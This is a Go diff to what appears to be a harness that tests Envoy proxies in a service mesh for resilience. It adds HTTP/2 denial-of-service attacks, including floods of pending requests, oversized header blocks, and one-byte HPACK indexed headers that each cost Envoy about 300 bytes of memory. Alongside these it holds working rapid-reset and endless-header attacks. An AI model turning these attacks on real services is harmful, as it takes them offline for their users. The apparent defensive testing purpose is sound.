@@ -33,6 +33,10 @@ func envoyAttacks() []envoyAttack {
 		{"more answers that are not read", asMemberOf(h2, 60, "h2", unread(hugeAnswers(largestWindow)))},
 		{"answers without a window", asMemberOf(h2, 40, "h2", frames(hugeAnswers(0)))},
 		{"large headers of requests that wait", asMemberOf(h2, 20, "h2", frames(largeHeaders))},
+		{"requests that wait, as many as a connection may have", asMemberOf(h2, 20, "h2", frames(manyRequests(16, 10)))},
+		{"requests that wait, with the largest headers", asMemberOf(h2, 20, "h2", frames(manyRequests(22, 4000)))},
+		{"requests that wait, with the most headers", asMemberOf(h2, 20, "h2", frames(manyRequests(90, 10)))},
+		{"requests that wait, with the most headers, a byte for each", asMemberOf(h2, 20, "h2", frames(repeatedHeaders))},
 		{"headers that never end", asMemberOf(h2, 40, "h2", frames(settings(endlessHeaders)))},
 		{"frames that ask nothing", asMemberOf(h2, 40, "h2", frames(settings(idleFrames)))},
 		{"streams that are reset", asMemberOf(h2, 40, "h2", frames(settings(rapidReset)))},
@@ -47,13 +51,15 @@ func envoyAttacks() []envoyAttack {
 	}
 }
 
-// hostileRate is how many connections an attacker opens each second after the first ones.
+// hostileRate is the number of connections that an attacker opens each second after the initial
+// ones.
 const hostileRate = 50
 
-// dialer makes a connection to a victim.
+// dialer connects to a victim.
 type dialer func(ctx context.Context, v *victim) (net.Conn, error)
 
-// memberWith connects with the certificate of a member of the mesh, and offers that protocol, too, if it is not "".
+// memberWith connects with the certificate of a member of the mesh. It also offers the protocol alpn, unless that
+// is "".
 func memberWith(alpn, at string) dialer {
 	return func(ctx context.Context, v *victim) (net.Conn, error) {
 		d := tls.Dialer{Config: v.tls()}
@@ -71,7 +77,7 @@ func stranger(at string) dialer {
 	}
 }
 
-// asMemberOf makes so many connections as a member of the mesh, and holds them.
+// asMemberOf opens connections as a member of the mesh, and holds them.
 func asMemberOf(at func(*victim) string, connections int, alpn string, do func(context.Context, net.Conn)) func(context.Context, *victim) {
 	return func(ctx context.Context, v *victim) { connect(ctx, v, connections, memberWith(alpn, at(v)), do) }
 }
@@ -80,7 +86,7 @@ func asStrangerTo(at func(*victim) string, connections int, do func(context.Cont
 	return func(ctx context.Context, v *victim) { connect(ctx, v, connections, stranger(at(v)), do) }
 }
 
-// connect keeps so many connections open, and does something on each.
+// connect keeps a number of connections open, and runs a function on each.
 func connect(ctx context.Context, v *victim, connections int, dial dialer, do func(context.Context, net.Conn)) {
 	var held pool
 	defer held.close()
@@ -91,7 +97,7 @@ func connect(ctx context.Context, v *victim, connections int, dial dialer, do fu
 		select {
 		case places <- struct{}{}:
 		default:
-			return // all are there
+			return // all connections are open
 		}
 		dialing, cancel := context.WithTimeout(ctx, 5*time.Second)
 		defer cancel()
@@ -110,34 +116,38 @@ func connect(ctx context.Context, v *victim, connections int, dial dialer, do fu
 	held.close()
 }
 
-// endAtOnce has the end of a connection be a reset. Otherwise what Envoy does not read keeps it open for minutes, and the next attack has fewer
-// places than the one before.
+// endAtOnce makes a connection end with a reset. Otherwise Envoy's unread data keeps it open for minutes, and fewer
+// connections are left for the next attack.
 func endAtOnce(c net.Conn) {
 	if t, ok := c.(*tls.Conn); ok {
 		c = t.NetConn()
 	}
-	_ = c.(*net.TCPConn).SetLinger(0) // it may have ended
+	_ = c.(*net.TCPConn).SetLinger(0) // the connection may have ended
 }
 
 func hold(ctx context.Context, _ net.Conn) { <-ctx.Done() }
 
-// streams is how many an attacker opens on one connection, or as many as it may.
-const streams = 200
+const (
+	// streams is the number of streams per connection in attacks with expensive streams.
+	streams = 200
+	// allStreams exceeds the stream limit of a connection to an inbound.
+	allStreams = 400
+)
 
-// zeros never ends.
+// zeros is an endless reader.
 type zeros struct{}
 
 func (zeros) Read(p []byte) (int, error) { clear(p); return len(p), nil }
 
-// clientConn speaks HTTP/2 on a connection as a good client does.
+// clientConn uses HTTP/2 on a connection like a correct client.
 func clientConn(ctx context.Context, c net.Conn) (*http.ClientConn, error) {
 	var protocols http.Protocols
-	protocols.SetUnencryptedHTTP2(true) // TLS is done
+	protocols.SetUnencryptedHTTP2(true) // the TLS handshake is done
 	t := &http.Transport{Protocols: &protocols, DialContext: func(context.Context, string, string) (net.Conn, error) { return c, nil }}
 	return t.NewClientConn(ctx, "http", "victim:80")
 }
 
-// uploads sends as much as it may on each stream.
+// uploads sends as much data as flow control allows on each stream.
 func uploads(ctx context.Context, c net.Conn) {
 	conn, err := clientConn(ctx, c)
 	if err != nil {
@@ -160,7 +170,7 @@ func uploads(ctx context.Context, c net.Conn) {
 	_ = conn.Close()
 }
 
-// frames speaks HTTP/2 on a connection. What it receives is dropped, but with unread, and then it stays in the way.
+// frames uses HTTP/2 on a connection, and drops received data; with unread, it does not read at all.
 func frames(do func(context.Context, *http2.Framer) error) func(context.Context, net.Conn) {
 	return speak(do, true)
 }
@@ -186,7 +196,7 @@ func speak(do func(context.Context, *http2.Framer) error, read bool) func(contex
 	}
 }
 
-// envoyRequest encodes the headers of a request, and more.
+// envoyRequest encodes the headers of a request, and additional headers.
 func envoyRequest(path string, more ...hpack.HeaderField) []byte {
 	var block bytes.Buffer
 	e := hpack.NewEncoder(&block)
@@ -194,14 +204,14 @@ func envoyRequest(path string, more ...hpack.HeaderField) []byte {
 	for _, h := range append([]hpack.HeaderField{
 		{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: "victim"}, {Name: ":path", Value: path},
 	}, more...) {
-		_ = e.WriteField(h) // to a buffer
+		_ = e.WriteField(h) // writes to a buffer
 	}
 	return block.Bytes()
 }
 
 const largestWindow = 1<<31 - 1
 
-// hugeAnswers asks for answers without end, with windows of that size on each stream, and the largest on the connection.
+// hugeAnswers requests endless responses, with this window on each stream and the largest window on the connection.
 func hugeAnswers(window uint32) func(context.Context, *http2.Framer) error {
 	return func(_ context.Context, f *http2.Framer) error {
 		if err := f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window}); err != nil {
@@ -210,7 +220,7 @@ func hugeAnswers(window uint32) func(context.Context, *http2.Framer) error {
 		if err := f.WriteWindowUpdate(0, largestWindow-65535); err != nil {
 			return err
 		}
-		for n := range uint32(streams) {
+		for n := range uint32(allStreams) {
 			if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1 + 2*n, BlockFragment: envoyRequest("/endless"), EndHeaders: true, EndStream: true}); err != nil {
 				return err
 			}
@@ -219,7 +229,7 @@ func hugeAnswers(window uint32) func(context.Context, *http2.Framer) error {
 	}
 }
 
-// largeHeaders has as many requests with headers as large as they may be.
+// largeHeaders sends requests with the largest allowed headers.
 func largeHeaders(_ context.Context, f *http2.Framer) error {
 	if err := f.WriteSettings(); err != nil {
 		return err
@@ -228,10 +238,40 @@ func largeHeaders(_ context.Context, f *http2.Framer) error {
 	for n := range 60 {
 		more = append(more, hpack.HeaderField{Name: fmt.Sprint("x-", n), Value: strings.Repeat("v", 4000), Sensitive: true})
 	}
-	for n := range uint32(streams) {
-		rest := envoyRequest("/wait", more...)
-		size := 16 << 10
-		err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1 + 2*n, BlockFragment: rest[:size], EndStream: true})
+	return requests(f, streams, envoyRequest("/wait", more...))
+}
+
+// manyRequests sends more requests than a connection allows, each with this many headers of this size; the
+// requests stay open.
+func manyRequests(headers, size int) func(context.Context, *http2.Framer) error {
+	return func(_ context.Context, f *http2.Framer) error {
+		if err := f.WriteSettings(); err != nil {
+			return err
+		}
+		var more []hpack.HeaderField
+		for n := range headers {
+			more = append(more, hpack.HeaderField{Name: fmt.Sprint("x-", n), Value: strings.Repeat("v", size), Sensitive: true})
+		}
+		return requests(f, allStreams, envoyRequest("/wait", more...))
+	}
+}
+
+// repeatedHeaders sends more requests than a connection allows, whose headers are indices into HPACK's static table:
+// each takes one byte on the connection, and 300 bytes of Envoy's memory.
+func repeatedHeaders(_ context.Context, f *http2.Framer) error {
+	if err := f.WriteSettings(); err != nil {
+		return err
+	}
+	const contentDisposition = 0x80 | 25 // by its index (RFC 7541, appendix A)
+	return requests(f, allStreams, append(envoyRequest("/wait"), bytes.Repeat([]byte{contentDisposition}, 90)...))
+}
+
+// requests sends a request this many times.
+func requests(f *http2.Framer, times uint32, request []byte) error {
+	for n := range times {
+		rest := request
+		size := min(len(rest), 16<<10)
+		err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1 + 2*n, BlockFragment: rest[:size], EndStream: true, EndHeaders: size == len(rest)})
 		for rest = rest[size:]; err == nil && len(rest) > 0; rest = rest[size:] {
 			size = min(len(rest), 16<<10)
 			err = f.WriteContinuation(1+2*n, size == len(rest), rest[:size])
@@ -243,7 +283,7 @@ func largeHeaders(_ context.Context, f *http2.Framer) error {
 	return nil
 }
 
-// settings sends the settings with which HTTP/2 begins, and then attacks.
+// settings sends the initial SETTINGS of HTTP/2, and then attacks.
 func settings(attack func(context.Context, *http2.Framer) error) func(context.Context, *http2.Framer) error {
 	return func(ctx context.Context, f *http2.Framer) error {
 		if err := f.WriteSettings(); err != nil {
@@ -253,7 +293,7 @@ func settings(attack func(context.Context, *http2.Framer) error) func(context.Co
 	}
 }
 
-// requestHTTP1 makes a request of HTTP/1, with a body without end if it is a POST. The answer is not read.
+// requestHTTP1 makes an HTTP/1 request, with an endless body for POST. It does not read the response.
 func requestHTTP1(line string) func(context.Context, net.Conn) {
 	return func(ctx context.Context, c net.Conn) {
 		head := line + " HTTP/1.1\r\nHost: victim\r\n"
@@ -279,7 +319,7 @@ func sendOnce(b byte) func(context.Context, net.Conn) {
 	}
 }
 
-// sendForEver sends a byte, and then more without end.
+// sendForEver sends a byte, and then endless data.
 func sendForEver(b byte) func(context.Context, net.Conn) {
 	return func(ctx context.Context, c net.Conn) {
 		_, _ = c.Write([]byte{b})
